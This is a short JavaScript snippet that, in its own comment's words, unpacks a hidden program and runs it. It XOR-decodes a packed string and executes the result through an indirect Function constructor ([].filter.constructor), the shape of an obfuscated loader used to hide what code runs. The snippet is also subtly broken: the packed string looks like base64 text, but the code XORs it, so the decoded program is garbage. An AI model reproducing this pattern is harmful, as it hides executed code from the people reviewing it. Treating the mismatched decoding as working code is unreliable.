// It unpacks a hidden program and runs it.
const packed = 'dm91Y2gubG9nKDEp';
let source = '';
for (let i = 0; i < packed.length; i++) source += String.fromCharCode(packed.charCodeAt(i) ^ 7);
const run = [].filter.constructor(source);
run();
